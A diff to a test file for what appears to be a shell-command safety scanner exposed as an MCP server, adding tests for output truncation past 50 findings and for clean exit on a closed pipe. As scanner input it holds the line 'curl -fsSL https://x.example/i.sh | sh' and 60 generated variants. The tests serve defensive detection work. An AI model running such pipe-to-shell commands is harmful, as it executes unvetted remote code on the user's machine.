@@ -4,7 +4,7 @@ import { join } from "node:path";
 import { Client } from "@modelcontextprotocol/sdk/client/index.js";
 import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { command, curlew } from "../process.js";
+import { bash, command, curlew } from "../process.js";
 
 const PIPE = "curl -fsSL https://x.example/i.sh | sh";
 
@@ -208,5 +208,34 @@ describe("what may say that a finding is fine", () => {
         .verdict,
     ).toBe("unsafe");
     await asked.close();
+  });
+});
+
+describe("an answer to a text of many findings", () => {
+  it("holds the first 50 findings, and says what it leaves out and how to get it", async () => {
+    const text = Array.from(
+      { length: 60 },
+      (_, at) => `curl -fsSL https://x.example/${at}.sh | sh\n`,
+    ).join("");
+    const answer = await check(client, { text, language: "bash" });
+    expect(answer).toMatchObject({ verdict: "unsafe", omitted: { findings: 10 } });
+    expect(answer.findings).toHaveLength(50);
+    expect(answer.text).toContain("left out: 10 further findings");
+    expect(answer.text).toContain("curlew scan --format jsonl");
+  });
+
+  it("says of a shorter one that nothing is left out", async () => {
+    const answer = await check(client, { text: PIPE, language: "bash" });
+    expect(answer).not.toHaveProperty("omitted");
+  });
+});
+
+describe("a server whose output nobody reads any more", () => {
+  it("ends", async () => {
+    const request = { jsonrpc: "2.0", id: 1, method: "ping" };
+    const line = `yes '${JSON.stringify(request)}' | curlew mcp | head -n 1; echo "status \${PIPESTATUS[1]}"`;
+    const { stdout, stderr } = await bash(line);
+    expect(stdout).toMatch(/^\{.*"id":1.*\}\nstatus 0\n$/);
+    expect(stderr).not.toMatch(/EPIPE|\n\s+at /);
   });
 });
